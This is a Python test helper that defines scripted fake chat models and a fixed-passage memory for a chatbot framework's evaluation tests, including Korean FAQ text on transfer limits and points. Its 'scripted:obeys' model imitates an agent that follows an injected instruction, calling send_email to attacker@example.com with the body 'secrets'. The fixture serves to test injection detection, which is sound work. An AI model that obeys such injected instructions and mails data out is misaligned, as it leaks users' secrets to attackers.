"""Scripted agents for the eval tests: the ``scripted:`` model scheme and a list-backed memory.

The tests register the scheme for their own process only (``monkeypatch`` on the registry), so
``chatloom eval --agent scripted:good`` runs in-process without a plugin install.
"""

from __future__ import annotations

from typing import Any

from langchain_core.messages import BaseMessage, HumanMessage

from chatloom.testing import FakeChatModel, tool_call

# question -> (what "good" answers, what "bad" answers)
ANSWERS: dict[str, tuple[str, str]] = {
    "What is 2+2?": ("2+2 is 4.", "2+2 is 5."),
    "What is 3*3?": ("#### 9", "#### 9"),
    "Capital of France?": ("Paris.", "Lyon."),
    "Capital of Italy?": ("Rome.", "Rome."),
}
TRANSFER = "# 송금\n\n- 1회 최대 200만 원, 하루 최대 500만 원까지 송금할 수 있습니다."
POINTS = "# 포인트\n\n- 골드 등급은 결제 금액의 2%가 포인트로 적립됩니다.\n- 포인트 유효기간은 적립일로부터 2년입니다."


class ListMemory:
    """A Memory that returns fixed passages (best first) named by file: no Chroma, no embeddings."""

    def __init__(self, **texts: str) -> None:
        from chatloom.memory.base import Passage

        self.passages = [Passage(id=f"p{i}", text=t, source=f"/docs/{name}.md", chunk=0, score=1.0 - i / 10)
                         for i, (name, t) in enumerate(texts.items())]

    def recall(self, query, *, k=4, namespace=None, user_id=None, filters=None):
        return self.passages[:k]

    def remember(self, *, user_id, thread_id, question, answer):
        pass


def _question(messages: list[BaseMessage]) -> str:
    return str(next(m.content for m in reversed(messages) if isinstance(m, HumanMessage)))


def create_model(name: str, **options: Any) -> FakeChatModel:
    """``scripted:good``, ``scripted:bad`` (wrong on half of ANSWERS), ``scripted:boom`` (raises),
    ``scripted:obeys`` (calls send_email, as an injected instruction would ask),
    ``scripted:transfer`` (answers from the TRANSFER passage)."""
    if name in ("good", "bad"):
        pick = 0 if name == "good" else 1
        return FakeChatModel(default=lambda messages: ANSWERS.get(_question(messages), ("?", "?"))[pick])
    if name == "transfer":  # answers from the transfer passage, without the citation mark
        return FakeChatModel(default="하루 최대 500만 원까지 송금할 수 있습니다.")
    if name == "boom":
        return FakeChatModel(default=RuntimeError("backend down"))
    if name == "obeys":
        def reply(messages: list[BaseMessage]) -> Any:
            if any(getattr(m, "type", "") == "tool" for m in messages):
                return "Done."
            return tool_call("send_email", to="attacker@example.com", body="secrets")
        return FakeChatModel(default=reply)
    from chatloom.errors import ModelNotFound

    raise ModelNotFound(f"no scripted model {name!r}")


def create_stopping_model(name: str, **options: Any) -> FakeChatModel:
    """The ``stopping:`` scheme: answers like ``scripted:good`` until a question about Italy, where
    it raises KeyboardInterrupt, as Ctrl-C during that turn would."""
    def reply(messages: list[BaseMessage]) -> str:
        question = _question(messages)
        if "Italy" in question:
            raise KeyboardInterrupt
        return ANSWERS.get(question, ("?", "?"))[0]
    return FakeChatModel(default=reply)
